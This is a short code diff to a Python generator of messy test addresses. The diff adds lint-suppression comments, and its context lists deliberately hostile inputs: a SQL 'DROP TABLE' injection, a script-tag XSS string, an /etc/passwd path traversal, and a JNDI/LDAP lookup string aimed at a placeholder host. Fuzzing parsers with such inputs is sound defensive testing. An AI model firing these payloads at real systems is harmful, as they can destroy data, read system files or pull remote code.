@@ -266,7 +266,7 @@ def _fullwidth(rng: random.Random) -> tuple[str, str | None]:
     if rng.random() < 0.12:
         # Punctuation inside the keyword: the rules no longer find it (manual, store known).
         i = rng.randint(1, len(kw) - 1)
-        place = kw[:i] + rng.choice(("．", "-", "·", "＿", "、")) + kw[i:] + place[len(kw) :]
+        place = kw[:i] + rng.choice(("．", "-", "·", "＿", "、")) + kw[i:] + place[len(kw) :]  # noqa: RUF001 - messy separators on purpose
     addr = _to_fullwidth(place, rng)
     addr = _scatter_spaces(addr, rng, rng.randint(1, 3))
     if rng.random() < 0.4:
@@ -422,7 +422,7 @@ def _outside(rng: random.Random) -> tuple[str, str | None]:
 _HOSTILE_EMPTY = (
     "", "   ", "\t\u3000 \n", "null", "None", "N/A", "13812345678", "+86 138-1234-5678", "0527-6120341",
     "'; DROP TABLE orders; --", "<script>alert(1)</script>", "../../etc/passwd", "${jndi:ldap://example.invalid/x}",
-    "\x00\x01\x02\x1b[31m", "🏠🏠🚚📦", "ＳＥＬＥＣＴ＊ＦＲＯＭ\u3000ｓｔｏｒｅｓ", "Flat 3, 12 Queen Street, Leeds",
+    "\x00\x01\x02\x1b[31m", "🏠🏠🚚📦", "ＳＥＬＥＣＴ＊ＦＲＯＭ\u3000ｓｔｏｒｅｓ", "Flat 3, 12 Queen Street, Leeds",  # noqa: RUF001 - hostile input on purpose
     "Квартира 7, ул. Мира 3", "锟斤拷锟斤拷", "\u200b\u200b\u200b", "\ufeff", "地址地址地址", "测试" * 1000,
 )
 
